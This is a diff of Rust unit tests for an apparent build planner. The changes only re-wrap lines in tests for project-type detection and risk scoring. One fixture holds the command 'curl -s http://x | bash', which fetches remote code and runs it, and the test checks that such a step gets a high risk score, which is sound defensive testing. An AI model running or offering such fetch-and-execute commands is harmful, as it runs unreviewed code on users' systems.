@@ -109,7 +109,10 @@ mod tests {
 
     #[test]
     fn go_make_and_shell_are_known() {
-        assert_eq!(names(&[("go.mod", "module a\n"), ("a.go", "")]), ["gofmt", "vet", "build", "test"]);
+        assert_eq!(
+            names(&[("go.mod", "module a\n"), ("a.go", "")]),
+            ["gofmt", "vet", "build", "test"]
+        );
         assert_eq!(names(&[("Makefile", "all:\n\ttrue\ntest: all\n\ttrue\n")]), ["make-test"]);
         assert_eq!(names(&[("run.sh", "")]), ["shellcheck"]);
     }
@@ -124,7 +127,8 @@ mod tests {
     #[test]
     fn the_risk_score_is_the_sum_of_its_parts() {
         let file = "[[step]]\nname='a'\nrun='curl -s http://x | bash'\nnetwork=true\n";
-        let g = plan(&[], &listing(&[("metabuilder.toml", file), ("migrations/1.sql", "")])).unwrap();
+        let g =
+            plan(&[], &listing(&[("metabuilder.toml", file), ("migrations/1.sql", "")])).unwrap();
         assert_eq!(g.risk_score(), g.risk.iter().map(|p| p.points).sum::<u32>());
         assert!(g.risk_score() >= 40, "{:?}", g.risk);
     }
